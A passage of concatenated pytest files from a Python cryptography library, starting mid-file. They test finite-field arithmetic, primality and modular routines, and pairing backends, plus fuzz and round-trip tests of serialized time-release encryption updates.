                blob,
                reencode=wire.encode_message,
            )

    def test_archive_snapshot(self, group, rng):
        """Crash-recovery snapshots are wire input too."""
        server = PassiveTimeServer(group, rng=rng)
        for epoch in range(3):
            server.publish_update(b"snap-%d" % epoch)
        blob = server.snapshot_archive()
        fresh = PassiveTimeServer(group, keypair=server._keypair)
        fuzz_rng = random.Random(0xF423)
        for mutated in _mutations(blob, fuzz_rng):
            try:
                fresh.restore_archive(mutated)
            except ReproError:
                continue
        # Whatever was (validly) restored must still self-authenticate.
        for label in fresh.archive_labels():
            assert fresh.lookup(label).verify(group, server.public_key)


class TestNoSilentAccept:
    """A mutant that *parses* must never *verify* (unless unchanged)."""

    def test_bitflipped_update_never_authenticates(self, group, server):
        update = server.publish_update(b"no-silent-accept")
        blob = update.to_bytes(group)
        rng = random.Random(0xACCE97)
        for _ in range(60):
            index = rng.randrange(len(blob))
            mutated = bytearray(blob)
            mutated[index] ^= 1 << rng.randrange(8)
            try:
                parsed = TimeBoundKeyUpdate.from_bytes(group, bytes(mutated))
            except ReproError:
                continue
            assert not parsed.verify(group, server.public_key)


class TestRoundTrips:
    """The happy path for the newly-serialized types."""

    def test_update_share_roundtrip(self, group, rng):
        coordinator, members = ThresholdTimeServer.setup(group, 3, 2, rng)
        share = members[1].issue_update_share(b"t-x")
        restored = UpdateShare.from_bytes(group, share.to_bytes(group))
        assert restored == share
        assert coordinator.verify_share(restored)

    def test_resilient_update_roundtrip(self, group, rng):
        from repro.core.resilient import ResilientTRE

        server = ResilientTimeServer(group, 5, rng)
        scheme = ResilientTRE(group, server.tree, server.public_key)
        user = scheme.generate_user_keypair(server.public_key, rng)
        ct = scheme.encrypt(b"over the wire", user.public, 6, rng)
        update = server.publish_update(20)
        restored = ResilientUpdate.from_bytes(group, update.to_bytes(group))
        assert restored == update
        assert scheme.decrypt(ct, user, restored, rng) == b"over the wire"

    def test_combined_threshold_update_is_wire_compatible(self, group, rng):
        """A threshold-combined update serializes as an ordinary update."""
        coordinator, members = ThresholdTimeServer.setup(group, 4, 2, rng)
        update = coordinator.combine(
            [m.issue_update_share(b"t-wire") for m in members[:2]]
        )
        blob = update.to_bytes(group)
        restored = TimeBoundKeyUpdate.from_bytes(group, blob)
        assert restored.verify(group, coordinator.public_key)
