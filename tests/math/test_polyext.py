"""Tests for the generic polynomial extension field."""

import pytest
from hypothesis import given, strategies as st

from repro.errors import EncodingError, FieldMismatchError, ParameterError
from repro.math.polyext import PolyExtensionField

P = 10007
# Fp2 = Fp[i]/(i^2 + 1): valid since 10007 % 4 == 3.
FQ2 = PolyExtensionField(P, (1, 0))
# A quartic extension Fp[x]/(x^4 + x + 3) (irreducible over F_10007 —
# verified by the inverse round-trip tests below, which would fail on a
# zero divisor).
FQ4 = PolyExtensionField(P, (3, 1, 0, 0))

pairs = st.tuples(st.integers(0, P - 1), st.integers(0, P - 1))
elements2 = pairs.map(lambda ab: FQ2(list(ab)))
nonzero2 = elements2.filter(lambda e: not e.is_zero())


class TestConstruction:
    def test_degree(self):
        assert FQ2.degree == 2
        assert FQ4.degree == 4

    def test_int_coercion(self):
        assert FQ2(5) == FQ2([5, 0])

    def test_wrong_length_rejected(self):
        with pytest.raises(ParameterError):
            FQ2([1, 2, 3])

    def test_empty_modulus_rejected(self):
        with pytest.raises(ParameterError):
            PolyExtensionField(P, ())

    def test_x_is_root_of_modulus(self):
        # In FQ2 = Fp[i]/(i^2+1): x^2 == -1.
        assert FQ2.x().square() == FQ2(P - 1)

    def test_agrees_with_quadratic_field(self):
        """FQ2 with modulus x²+1 must match QuadraticField(beta=-1)."""
        from repro.math.field import PrimeField
        from repro.math.quadratic import QuadraticField

        ref = QuadraticField(PrimeField(P), -1)
        a = FQ2([3, 4]) * FQ2([5, 6])
        b = ref(3, 4) * ref(5, 6)
        assert a.coeffs == (b.a, b.b)


class TestArithmetic:
    def test_known_product(self):
        # (1 + 2i)(3 + 4i) = 3 + 10i - 8 = -5 + 10i.
        assert FQ2([1, 2]) * FQ2([3, 4]) == FQ2([P - 5, 10])

    def test_field_mismatch(self):
        with pytest.raises(FieldMismatchError):
            FQ2([1, 2]) + FQ4([1, 2, 3, 4])

    def test_int_ops(self):
        assert FQ2([2, 3]) + 1 == FQ2([3, 3])
        assert 2 * FQ2([2, 3]) == FQ2([4, 6])
        assert 1 - FQ2([2, 3]) == FQ2([P - 1, P - 3])
        assert 6 / FQ2([6, 0]) == FQ2(1)

    @given(elements2, elements2, elements2)
    def test_ring_axioms(self, a, b, c):
        assert a + b == b + a
        assert a * b == b * a
        assert a * (b + c) == a * b + a * c
        assert (a + b) + c == a + (b + c)

    @given(nonzero2)
    def test_inverse(self, a):
        assert a * a.inverse() == FQ2.one()

    @given(elements2)
    def test_square(self, a):
        assert a.square() == a * a

    def test_pow(self):
        a = FQ2([3, 4])
        assert a ** 0 == FQ2.one()
        assert a ** 5 == a * a * a * a * a
        assert a ** -1 == a.inverse()

    def test_fermat_in_extension(self):
        # |FQ2*| = p^2 - 1.
        a = FQ2([3, 4])
        assert a ** (P * P - 1) == FQ2.one()

    def test_quartic_inverse(self):
        import random

        rng = random.Random(0)
        for _ in range(20):
            a = FQ4.random(rng)
            if a.is_zero():
                continue
            assert a * a.inverse() == FQ4.one()

    def test_zero_inverse_raises(self):
        with pytest.raises(ParameterError):
            FQ4.zero().inverse()


class TestSerialization:
    @given(elements2)
    def test_roundtrip(self, a):
        assert FQ2.from_bytes(a.to_bytes()) == a

    def test_fixed_width(self):
        assert len(FQ4([1, 2, 3, 4]).to_bytes()) == FQ4.element_bytes

    def test_bad_length(self):
        with pytest.raises(EncodingError):
            FQ2.from_bytes(b"\x00")

    def test_overflow_rejected(self):
        width = FQ2.element_bytes // 2
        bad = (P + 1).to_bytes(width, "big") * 2
        with pytest.raises(EncodingError):
            FQ2.from_bytes(bad)

    def test_hashable(self):
        assert len({FQ2([1, 2]), FQ2([1, 2]), FQ2([2, 1])}) == 2
