"""Unit tests for repro.math.primes."""

import random

import pytest
from hypothesis import given, strategies as st

from repro.math.primes import (
    is_probable_prime,
    next_prime,
    random_prime,
    random_safe_prime,
)

KNOWN_PRIMES = [2, 3, 5, 7, 11, 101, 10007, 2**31 - 1, 2**61 - 1, 2**127 - 1]
KNOWN_COMPOSITES = [1, 0, -7, 4, 100, 561, 1105, 2**31, 2**61 - 2]
CARMICHAEL = [561, 1105, 1729, 2465, 2821, 6601, 8911, 10585, 15841, 29341]


class TestIsProbablePrime:
    @pytest.mark.parametrize("p", KNOWN_PRIMES)
    def test_known_primes(self, p):
        assert is_probable_prime(p)

    @pytest.mark.parametrize("n", KNOWN_COMPOSITES)
    def test_known_composites(self, n):
        assert not is_probable_prime(n)

    @pytest.mark.parametrize("n", CARMICHAEL)
    def test_carmichael_numbers_rejected(self, n):
        assert not is_probable_prime(n)

    def test_large_prime(self):
        # 2^521 - 1 is a Mersenne prime.
        assert is_probable_prime(2**521 - 1)
        assert not is_probable_prime(2**521 - 3)

    @given(st.integers(4, 10**6))
    def test_agrees_with_trial_division(self, n):
        def trial(n):
            if n < 2:
                return False
            d = 2
            while d * d <= n:
                if n % d == 0:
                    return False
                d += 1
            return True

        assert is_probable_prime(n) == trial(n)


class TestRandomPrime:
    def test_bit_length(self):
        rng = random.Random(1)
        for bits in (8, 16, 64, 128):
            p = random_prime(bits, rng)
            assert p.bit_length() == bits
            assert is_probable_prime(p)

    def test_too_small_raises(self):
        with pytest.raises(ValueError):
            random_prime(1, random.Random(1))

    def test_deterministic_given_seed(self):
        assert random_prime(32, random.Random(9)) == random_prime(
            32, random.Random(9)
        )


class TestRandomSafePrime:
    def test_structure(self):
        rng = random.Random(2)
        p = random_safe_prime(24, rng)
        assert p.bit_length() == 24
        assert is_probable_prime(p)
        assert is_probable_prime((p - 1) // 2)


class TestNextPrime:
    def test_small_values(self):
        assert next_prime(0) == 2
        assert next_prime(2) == 3
        assert next_prime(3) == 5
        assert next_prime(10) == 11
        assert next_prime(13) == 17

    def test_strictly_greater(self):
        assert next_prime(7) == 11

    @given(st.integers(0, 10**5))
    def test_result_is_prime_and_greater(self, n):
        p = next_prime(n)
        assert p > n
        assert is_probable_prime(p)
