"""Unit tests for repro.math.modular."""

import pytest
from hypothesis import given, strategies as st

from repro.errors import ParameterError
from repro.math.modular import (
    crt_pair,
    cube_root_mod,
    egcd,
    inverse_mod,
    is_quadratic_residue,
    jacobi_symbol,
    sqrt_mod,
)

P_3MOD4 = 10007          # prime, 10007 % 4 == 3
P_1MOD4 = 10009          # prime, 10009 % 4 == 1
P_2MOD3 = 10007          # 10007 % 3 == 2


class TestEgcd:
    def test_basic(self):
        g, x, y = egcd(240, 46)
        assert g == 2
        assert 240 * x + 46 * y == 2

    def test_coprime(self):
        g, x, y = egcd(17, 31)
        assert g == 1
        assert 17 * x + 31 * y == 1

    def test_zero(self):
        assert egcd(0, 5)[0] == 5
        assert egcd(5, 0)[0] == 5

    @given(st.integers(1, 10**9), st.integers(1, 10**9))
    def test_bezout_identity(self, a, b):
        g, x, y = egcd(a, b)
        assert a * x + b * y == g
        assert a % g == 0 and b % g == 0


class TestInverseMod:
    def test_simple(self):
        assert inverse_mod(3, 7) == 5

    def test_inverse_of_one(self):
        assert inverse_mod(1, 97) == 1

    def test_zero_raises(self):
        with pytest.raises(ParameterError):
            inverse_mod(0, 7)

    def test_non_invertible_raises(self):
        with pytest.raises(ParameterError):
            inverse_mod(6, 9)

    def test_reduces_input(self):
        assert inverse_mod(10, 7) == inverse_mod(3, 7)

    @given(st.integers(1, P_3MOD4 - 1))
    def test_roundtrip(self, a):
        assert a * inverse_mod(a, P_3MOD4) % P_3MOD4 == 1


class TestJacobiSymbol:
    def test_squares_are_residues(self):
        for a in range(1, 50):
            assert jacobi_symbol(a * a % P_3MOD4, P_3MOD4) == 1

    def test_zero(self):
        assert jacobi_symbol(0, 7) == 0
        assert jacobi_symbol(14, 7) == 0

    def test_even_n_raises(self):
        with pytest.raises(ParameterError):
            jacobi_symbol(3, 8)

    def test_matches_euler_criterion(self):
        p = P_1MOD4
        for a in range(1, 60):
            euler = pow(a, (p - 1) // 2, p)
            expected = 1 if euler == 1 else -1
            assert jacobi_symbol(a, p) == expected


class TestSqrtMod:
    @pytest.mark.parametrize("p", [P_3MOD4, P_1MOD4, 2**255 - 19])
    def test_roundtrip(self, p):
        for a in range(2, 40):
            square = a * a % p
            root = sqrt_mod(square, p)
            assert root * root % p == square

    def test_zero(self):
        assert sqrt_mod(0, P_3MOD4) == 0

    def test_non_residue_raises(self):
        # Find a non-residue and check the error path.
        p = P_3MOD4
        for a in range(2, p):
            if not is_quadratic_residue(a, p):
                with pytest.raises(ParameterError):
                    sqrt_mod(a, p)
                break

    def test_canonical_root(self):
        p = P_1MOD4
        root = sqrt_mod(4, p)
        assert root == min(root, p - root)

    @given(st.integers(1, P_1MOD4 - 1))
    def test_tonelli_shanks_property(self, a):
        square = a * a % P_1MOD4
        root = sqrt_mod(square, P_1MOD4)
        assert root * root % P_1MOD4 == square


class TestCubeRootMod:
    def test_roundtrip(self):
        p = P_2MOD3
        for a in range(50):
            root = cube_root_mod(a, p)
            assert pow(root, 3, p) == a % p

    def test_bijection(self):
        p = 11  # 11 % 3 == 2
        roots = {cube_root_mod(a, p) for a in range(p)}
        assert roots == set(range(p))

    def test_wrong_congruence_raises(self):
        with pytest.raises(ParameterError):
            cube_root_mod(5, 13)  # 13 % 3 == 1


class TestCrtPair:
    def test_basic(self):
        x = crt_pair(2, 3, 3, 5)
        assert x % 3 == 2 and x % 5 == 3

    def test_non_coprime_raises(self):
        with pytest.raises(ParameterError):
            crt_pair(1, 4, 3, 6)

    @given(st.integers(0, 10**6), st.integers(0, 10**6))
    def test_solves_both_congruences(self, r1, r2):
        m1, m2 = 10007, 10009
        x = crt_pair(r1, m1, r2, m2)
        assert x % m1 == r1 % m1
        assert x % m2 == r2 % m2
        assert 0 <= x < m1 * m2
