"""Unitary (cyclotomic) exponentiation must equal naive exponentiation.

``cyclotomic_square``, ``unitary_exp`` and ``GTFixedBaseTable`` are pure
accelerators for norm-1 elements of Fp2 — the GT representation the Tate
pairing's final exponentiation produces.  Every fast path must return
the exact field element the generic ``**`` computes, for both beta
choices (mirroring curve families A and B), all widths, and negative,
zero and oversized exponents.
"""

import random

import pytest
from hypothesis import given, settings, strategies as st

from repro.errors import ParameterError
from repro.math.field import PrimeField
from repro.math.quadratic import (
    GTFixedBaseTable,
    QuadraticField,
    cyclotomic_square,
    unitary_exp,
)

# Two field shapes: beta = -1 (family A's extension) and a small odd
# non-residue (the general shape family B can use).
P_A = (1 << 61) - 1  # Mersenne prime, ≡ 3 mod 4 so -1 is a non-residue
P_B = 2**62 + 135    # prime; _field picks the first odd non-residue >= 3


def _field(p: int, beta_hint: int) -> QuadraticField:
    base = PrimeField(p)
    beta = beta_hint % p
    while pow(beta, (p - 1) // 2, p) == 1:
        beta += 1
    return QuadraticField(base, beta)


FIELDS = [_field(P_A, P_A - 1), _field(P_B, 3)]


def _unitary(field: QuadraticField, rng: random.Random):
    """A random norm-1 element: conj(x) / x for nonzero x."""
    while True:
        x = field.random(rng)
        if not x.is_zero():
            return x.conjugate() * x.inverse()


@pytest.fixture(params=[0, 1], ids=["beta_neg1_shape", "beta_odd_shape"])
def field(request):
    return FIELDS[request.param]


@pytest.fixture()
def g(field):
    return _unitary(field, random.Random(0xC4C70))


class TestCyclotomicSquare:
    def test_matches_generic_square(self, field):
        rng = random.Random(7)
        for _ in range(20):
            u = _unitary(field, rng)
            assert cyclotomic_square(u) == u.square()

    def test_preserves_unitarity(self, g):
        sq = cyclotomic_square(g)
        assert (sq * sq.conjugate()).is_one()


class TestUnitaryExp:
    @pytest.mark.parametrize(
        "exponent", [0, 1, 2, 3, 5, 17, 255, 256, 2**20 + 3]
    )
    def test_small_exponents(self, g, exponent):
        assert unitary_exp(g, exponent) == g ** exponent

    @pytest.mark.parametrize("exponent", [-1, -2, -17, -(2**30 + 5)])
    def test_negative_exponents_use_conjugate(self, g, exponent):
        assert unitary_exp(g, exponent) == (g ** -exponent).conjugate()
        assert unitary_exp(g, exponent) * unitary_exp(g, -exponent) == \
            g.field.one()

    @pytest.mark.parametrize("width", [2, 3, 4, 5, 6])
    def test_all_widths_agree(self, g, width):
        k = 0xDEADBEEFCAFEBABE
        assert unitary_exp(g, k, width=width) == g ** k

    def test_width_bounds(self, g):
        with pytest.raises(ParameterError):
            unitary_exp(g, 5, width=1)
        with pytest.raises(ParameterError):
            unitary_exp(g, 5, width=9)

    @settings(max_examples=25, deadline=None)
    @given(st.integers(min_value=-(2**128), max_value=2**128))
    def test_matches_pow_for_random_exponents(self, exponent):
        g = _unitary(FIELDS[0], random.Random(99))
        expected = (
            (g ** -exponent).conjugate() if exponent < 0 else g ** exponent
        )
        assert unitary_exp(g, exponent) == expected


class TestGTFixedBaseTable:
    BITS = 64

    def test_matches_unitary_exp(self, g):
        table = GTFixedBaseTable(g, self.BITS)
        rng = random.Random(3)
        for _ in range(20):
            k = rng.getrandbits(self.BITS)
            assert table.exp(k) == unitary_exp(g, k)

    def test_zero_and_one(self, g):
        table = GTFixedBaseTable(g, self.BITS)
        assert table.exp(0) == g.field.one()
        assert table.exp(1) == g

    def test_negative_exponent_conjugates(self, g):
        table = GTFixedBaseTable(g, self.BITS)
        for k in (1, 5, 0xFFFF_FFFF):
            assert table.exp(-k) == table.exp(k).conjugate()

    def test_oversized_exponent_falls_back(self, g):
        table = GTFixedBaseTable(g, self.BITS)
        k = 1 << (self.BITS + 8)
        assert table.exp(k) == unitary_exp(g, k)
        assert table.exp(-k) == unitary_exp(g, k).conjugate()

    @pytest.mark.parametrize("width", [1, 2, 3, 5, 8])
    def test_all_widths_agree(self, g, width):
        table = GTFixedBaseTable(g, self.BITS, width=width)
        k = 0x0123_4567_89AB_CDEF
        assert table.exp(k) == unitary_exp(g, k)

    def test_table_size_formula(self, g):
        table = GTFixedBaseTable(g, self.BITS, width=4)
        windows = (self.BITS + 3) // 4
        assert table.table_elements == windows * (2**4 - 1)

    def test_rejects_non_unitary_base(self, field):
        x = field(2, 3)  # arbitrary, norm != 1
        assert not (x * x.conjugate()).is_one()
        with pytest.raises(ParameterError):
            GTFixedBaseTable(x, self.BITS)

    def test_rejects_bad_parameters(self, g):
        with pytest.raises(ParameterError):
            GTFixedBaseTable(g, self.BITS, width=0)
        with pytest.raises(ParameterError):
            GTFixedBaseTable(g, self.BITS, width=9)
        with pytest.raises(ParameterError):
            GTFixedBaseTable(g, 0)
