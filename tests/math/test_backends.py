"""Every field-arithmetic backend must compute the same field.

The backends trade representation (Montgomery residues, gmpy2 mpz) for
speed *inside* kernels only — at every method boundary each returns the
same canonical integers the pure-python reference produces.  These
properties pin that contract on both parameter shapes (``p % 4 == 3``
family-A moduli with ``beta = -1``, and a general odd ``beta``), plus
the resolution/caching behavior of the registry itself.
"""

import os
import random

import pytest
from hypothesis import given, settings, strategies as st

from repro.errors import BackendUnavailableError, ParameterError
from repro.math.backend import (
    BACKEND_NAMES,
    available_backends,
    get_backend,
    resolve_backend_name,
)
from repro.math.backend.base import FieldBackend, LINE, ONE, VERT
from repro.math.backend.gmp import gmpy2_available
from repro.pairing.params import get_parameter_set

# toy64's p (fast) and ss512's p (production-width operands): both are
# family-A moduli, p % 4 == 3, so beta = -1 exercises the Montgomery
# fast paths.  BETA_ODD exercises the generic fallback kernels.
P_TOY = get_parameter_set("toy64").p
P_SS512 = get_parameter_set("ss512").p
BETA_NEG1 = -1
BETA_ODD = 3


def reference(p: int) -> FieldBackend:
    return get_backend("python", p)


def others(p: int) -> list[FieldBackend]:
    return [
        get_backend(name, p)
        for name in available_backends()
        if name != "python"
    ]


moduli = st.sampled_from([P_TOY, P_SS512])


@st.composite
def modulus_and_values(draw, count: int):
    p = draw(moduli)
    values = [
        draw(st.integers(min_value=0, max_value=p - 1)) for _ in range(count)
    ]
    return (p, *values)


class TestFpAgreement:
    @given(modulus_and_values(2))
    @settings(max_examples=60, deadline=None)
    def test_mul_sqr_addsub(self, pv):
        p, x, y = pv
        ref = reference(p)
        for backend in others(p):
            assert backend.fp_mul(x, y) == ref.fp_mul(x, y)
            assert backend.fp_sqr(x) == ref.fp_sqr(x)
            assert backend.fp_add(x, y) == ref.fp_add(x, y)
            assert backend.fp_sub(x, y) == ref.fp_sub(x, y)

    @given(modulus_and_values(1))
    @settings(max_examples=40, deadline=None)
    def test_inv_and_pow(self, pv):
        p, x = pv
        ref = reference(p)
        for backend in others(p):
            assert backend.fp_pow(x, 65537) == ref.fp_pow(x, 65537)
            if x == 0:
                with pytest.raises(ParameterError):
                    backend.fp_inv(x)
            else:
                inv = backend.fp_inv(x)
                assert inv == ref.fp_inv(x)
                assert x * inv % p == 1

    @given(modulus_and_values(5))
    @settings(max_examples=40, deadline=None)
    def test_batch_inv(self, pv):
        p, *values = pv
        values = [v or 1 for v in values]  # zero has no inverse
        ref = reference(p)
        expected = ref.fp_batch_inv(values)
        assert expected == [ref.fp_inv(v) for v in values]
        for backend in others(p):
            assert backend.fp_batch_inv(values) == expected

    def test_batch_inv_zero_raises(self):
        for name in available_backends():
            with pytest.raises(ParameterError):
                get_backend(name, P_TOY).fp_batch_inv([3, 0, 5])

    def test_batch_inv_empty(self):
        for name in available_backends():
            assert get_backend(name, P_TOY).fp_batch_inv([]) == []


class TestFp2Agreement:
    @given(modulus_and_values(4), st.sampled_from([BETA_NEG1, BETA_ODD]))
    @settings(max_examples=60, deadline=None)
    def test_mul_sqr(self, pv, beta):
        p, ar, ai, br, bi = pv
        ref = reference(p)
        for backend in others(p):
            assert backend.fp2_mul(ar, ai, br, bi, beta) == ref.fp2_mul(
                ar, ai, br, bi, beta
            )
            assert backend.fp2_sqr(ar, ai, beta) == ref.fp2_sqr(ar, ai, beta)

    @given(modulus_and_values(2), st.sampled_from([BETA_NEG1, BETA_ODD]))
    @settings(max_examples=40, deadline=None)
    def test_inv(self, pv, beta):
        p, ar, ai = pv
        ref = reference(p)
        norm = (ar * ar - beta * ai * ai) % p
        for backend in others(p):
            if norm == 0:
                with pytest.raises(ParameterError):
                    backend.fp2_inv(ar, ai, beta)
                continue
            ra, rb = backend.fp2_inv(ar, ai, beta)
            assert (ra, rb) == ref.fp2_inv(ar, ai, beta)
            # (a + bu)(ra + rb u) == 1
            assert ref.fp2_mul(ar, ai, ra, rb, beta) == (1, 0)

    @given(
        modulus_and_values(2),
        st.integers(min_value=-(1 << 80), max_value=1 << 80),
        st.sampled_from([2, 3, 4, 5]),
    )
    @settings(max_examples=40, deadline=None)
    def test_unitary_exp(self, pv, exponent, width):
        p, a, b = pv
        ref = reference(p)
        # Build a unitary element: conj(x)/x for nonzero x (norm 1).
        norm = (a * a + b * b) % p  # beta = -1
        if norm == 0:
            a, b = 1, 0
            norm = 1
        inv_norm = pow(norm, -1, p)
        ua, ub = ref.fp2_mul(a, -b % p, a * inv_norm % p,
                             -b * inv_norm % p, BETA_NEG1)
        expected = ref.unitary_exp(ua, ub, exponent, BETA_NEG1, width)
        for backend in others(p):
            assert backend.unitary_exp(
                ua, ub, exponent, BETA_NEG1, width
            ) == expected

    def test_unitary_exp_zero_exponent(self):
        for name in available_backends():
            backend = get_backend(name, P_TOY)
            assert backend.unitary_exp(5, 7, 0, BETA_NEG1) == (1, 0)


class TestLineKernels:
    """The Miller kernels agree on synthetic step sequences.

    Full recorded-pairing identity is covered end-to-end by
    ``tests/core/test_cross_backend.py``; here the kernels get direct
    adversarial inputs (kind mixes, zero coordinates, conjugation).
    """

    def _random_steps(self, rng: random.Random, p: int, length: int):
        steps = []
        for index in range(length):
            kind = rng.choice([LINE, LINE, LINE, VERT, ONE])
            steps.append((
                index % 2 == 1,
                kind,
                rng.randrange(p) if kind != ONE else 0,
                rng.randrange(p) if kind == LINE else 0,
                rng.randrange(p) if kind == LINE else 0,
            ))
        return tuple(steps)

    @pytest.mark.parametrize("p", [P_TOY, P_SS512])
    def test_eval_line_sequence_agreement(self, p):
        rng = random.Random(0xBEEF ^ p)
        ref = reference(p)
        for trial in range(8):
            steps = self._random_steps(rng, p, 24)
            sxa, sya, syb = (rng.randrange(p) for _ in range(3))
            sxb = 0 if trial % 2 else rng.randrange(p)
            expected = ref.eval_line_sequence(
                steps, sxa, sxb, sya, syb, BETA_NEG1
            )
            for backend in others(p):
                got = backend.eval_line_sequence(
                    backend.convert_steps(steps),
                    *backend.convert_coords(sxa, sxb, sya, syb),
                    BETA_NEG1,
                )
                assert got == expected

    @pytest.mark.parametrize("p", [P_TOY, P_SS512])
    def test_product_kernel_agreement(self, p):
        rng = random.Random(0xF00D ^ p)
        ref = reference(p)
        steps_a = self._random_steps(rng, p, 16)
        # Same is_add schedule (the product kernel requires alignment),
        # different line coefficients.
        steps_b = tuple(
            (is_add,) + (
                (kind, rng.randrange(p), rng.randrange(p), rng.randrange(p))
                if kind == LINE
                else (kind, xv, yv, slope)
            )
            for is_add, kind, xv, yv, slope in steps_a
        )
        coords = [tuple(rng.randrange(p) for _ in range(4)) for _ in range(2)]
        tasks = [
            (steps_a, *coords[0], False),
            (steps_b, *coords[1], True),
        ]
        expected = ref.eval_line_sequences_product(tasks, BETA_NEG1)
        for backend in others(p):
            converted = [
                (
                    backend.convert_steps(steps),
                    *backend.convert_coords(*cs),
                    conjugate,
                )
                for steps, *cs, conjugate in tasks
            ]
            assert backend.eval_line_sequences_product(
                converted, BETA_NEG1
            ) == expected


class TestRegistry:
    def test_names_and_availability(self):
        assert set(available_backends()) <= set(BACKEND_NAMES)
        assert "python" in available_backends()
        assert "montgomery" in available_backends()
        assert ("gmpy2" in available_backends()) == gmpy2_available()

    def test_resolution(self):
        assert resolve_backend_name("python") == "python"
        assert resolve_backend_name(None) in available_backends()
        assert resolve_backend_name("auto") in available_backends()
        expected_auto = "gmpy2" if gmpy2_available() else "montgomery"
        assert resolve_backend_name("auto") == expected_auto

    def test_unknown_name_rejected(self):
        with pytest.raises(ParameterError):
            resolve_backend_name("fpga")
        with pytest.raises(ParameterError):
            get_backend("fpga", P_TOY)

    def test_explicit_gmpy2_unavailable_raises(self):
        if gmpy2_available():
            pytest.skip("gmpy2 installed; unavailability path not reachable")
        with pytest.raises(BackendUnavailableError):
            get_backend("gmpy2", P_TOY)

    def test_instances_cached_per_name_and_modulus(self):
        a = get_backend("montgomery", P_TOY)
        b = get_backend("montgomery", P_TOY)
        c = get_backend("montgomery", P_SS512)
        assert a is b
        assert a is not c

    def test_backend_instance_passthrough(self):
        backend = get_backend("montgomery", P_TOY)
        assert get_backend(backend, P_TOY) is backend
        with pytest.raises(ParameterError):
            get_backend(backend, P_SS512)  # modulus mismatch

    def test_montgomery_requires_odd_modulus(self):
        with pytest.raises(ParameterError):
            get_backend("montgomery", 10)

    @pytest.mark.skipif(
        not hasattr(os, "register_at_fork"), reason="no fork hooks"
    )
    def test_gmpy2_skip_marker(self):
        """gmpy2 coverage self-documents: skipped when not installed."""
        if not gmpy2_available():
            pytest.skip("gmpy2 not installed; backend auto-excluded")
        assert get_backend("gmpy2", P_TOY).name == "gmpy2"
