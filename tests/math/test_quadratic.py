"""Unit and property tests for the quadratic extension Fp2."""

import pytest
from hypothesis import given, strategies as st

from repro.errors import EncodingError, FieldMismatchError, ParameterError
from repro.math.field import PrimeField
from repro.math.quadratic import QuadraticField

P = 10007  # P % 4 == 3 and P % 3 == 2: both betas available.
BASE = PrimeField(P)
FQ2_M1 = QuadraticField(BASE, -1)
FQ2_M3 = QuadraticField(BASE, -3)

coeffs = st.integers(0, P - 1)
elements = st.tuples(coeffs, coeffs).map(lambda ab: FQ2_M1(*ab))
nonzero = elements.filter(lambda e: not e.is_zero())


class TestConstruction:
    def test_residue_beta_raises(self):
        with pytest.raises(ParameterError):
            QuadraticField(BASE, 4)

    def test_u_squares_to_beta(self):
        assert FQ2_M1.u().square() == FQ2_M1(-1 % P, 0)
        assert FQ2_M3.u().square() == FQ2_M3(-3 % P, 0)

    def test_order(self):
        assert FQ2_M1.order() == P * P

    def test_from_base(self):
        assert FQ2_M1.from_base(BASE(7)) == FQ2_M1(7, 0)
        assert FQ2_M1.from_base(7).in_base_field()


class TestArithmetic:
    def test_known_product(self):
        # (1 + 2u)(3 + 4u) with u^2 = -1: 3 + 4u + 6u - 8 = -5 + 10u
        assert FQ2_M1(1, 2) * FQ2_M1(3, 4) == FQ2_M1(-5 % P, 10)

    def test_mixing_betas_raises(self):
        with pytest.raises(FieldMismatchError):
            FQ2_M1(1, 1) + FQ2_M3(1, 1)

    def test_int_and_base_coercion(self):
        assert FQ2_M1(2, 3) + 1 == FQ2_M1(3, 3)
        assert 2 * FQ2_M1(2, 3) == FQ2_M1(4, 6)
        assert FQ2_M1(2, 3) - BASE(2) == FQ2_M1(0, 3)
        assert 5 / FQ2_M1(5, 0) == FQ2_M1(1, 0)

    @given(elements, elements, elements)
    def test_ring_axioms(self, a, b, c):
        assert a + b == b + a
        assert a * b == b * a
        assert a * (b + c) == a * b + a * c
        assert (a - b) + b == a

    @given(nonzero)
    def test_inverse(self, a):
        assert a * a.inverse() == FQ2_M1.one()

    @given(elements)
    def test_square_matches_mul(self, a):
        assert a.square() == a * a

    @given(nonzero, st.integers(0, 2**64))
    def test_pow_matches_repeated_mul_small(self, a, e):
        e_small = e % 16
        expected = FQ2_M1.one()
        for _ in range(e_small):
            expected = expected * a
        assert a ** e_small == expected

    def test_zero_inverse_raises(self):
        with pytest.raises(ParameterError):
            FQ2_M1.zero().inverse()


class TestFrobeniusAndNorm:
    @given(elements)
    def test_conjugate_is_frobenius(self, a):
        assert a.conjugate() == a ** P

    @given(elements)
    def test_norm_multiplicative(self, a):
        b = FQ2_M1(3, 4)
        assert (a * b).norm() == a.norm() * b.norm() % P

    @given(nonzero)
    def test_unitary_inverse(self, a):
        unit = a.conjugate() * a.inverse()  # norm 1 by construction
        assert unit.norm() == 1
        assert unit * unit.unitary_inverse() == FQ2_M1.one()


class TestSerialization:
    @given(elements)
    def test_roundtrip(self, a):
        assert FQ2_M1.from_bytes(a.to_bytes()) == a

    def test_fixed_width(self):
        assert len(FQ2_M1(1, 2).to_bytes()) == FQ2_M1.element_bytes

    def test_bad_length_raises(self):
        with pytest.raises(EncodingError):
            FQ2_M1.from_bytes(b"\x01")

    def test_overflow_raises(self):
        bad = (P + 1).to_bytes(BASE.element_bytes, "big") * 2
        with pytest.raises(EncodingError):
            FQ2_M1.from_bytes(bad)

    def test_hashable(self):
        assert len({FQ2_M1(1, 2), FQ2_M1(1, 2), FQ2_M1(2, 1)}) == 2

    def test_cube_root_of_unity_in_m3(self):
        from repro.math.modular import inverse_mod

        inv2 = inverse_mod(2, P)
        zeta = FQ2_M3((P - 1) * inv2 % P, inv2)
        assert zeta ** 3 == FQ2_M3.one()
        assert zeta != FQ2_M3.one()
