"""Unit and property tests for the prime field Fp."""

import pytest
from hypothesis import given, strategies as st

from repro.errors import EncodingError, FieldMismatchError, ParameterError
from repro.math.field import PrimeField

P = 10007
F = PrimeField(P)
F2 = PrimeField(10009)

elements = st.integers(0, P - 1).map(F)
nonzero = st.integers(1, P - 1).map(F)


class TestConstruction:
    def test_non_prime_modulus_raises(self):
        with pytest.raises(ParameterError):
            PrimeField(10)

    def test_check_prime_skip(self):
        # Used internally for the big frozen parameters.
        PrimeField(10, check_prime=False)

    def test_reduction(self):
        assert F(P + 3).value == 3
        assert F(-1).value == P - 1

    def test_equality_of_fields(self):
        assert F == PrimeField(P)
        assert F != F2


class TestArithmetic:
    def test_add_sub(self):
        assert F(5) + F(4) == F(9)
        assert F(5) - F(9) == F(P - 4)
        assert F(5) + 4 == 9
        assert 4 + F(5) == F(9)
        assert 9 - F(5) == F(4)

